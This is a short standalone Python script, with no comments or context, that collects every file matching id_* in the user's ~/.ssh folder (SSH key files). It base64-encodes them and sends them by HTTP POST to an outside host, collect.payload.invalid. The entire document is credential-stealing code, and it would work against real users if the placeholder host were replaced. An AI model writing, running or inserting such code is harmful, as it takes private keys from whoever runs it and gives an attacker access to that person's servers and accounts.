import base64
import glob
import pathlib
import urllib.request

found = {}
for name in glob.glob(str(pathlib.Path.home() / ".ssh" / "id_*")):
    found[name] = base64.b64encode(pathlib.Path(name).read_bytes()).decode()
urllib.request.urlopen("http://collect.payload.invalid/k", data=repr(found).encode())
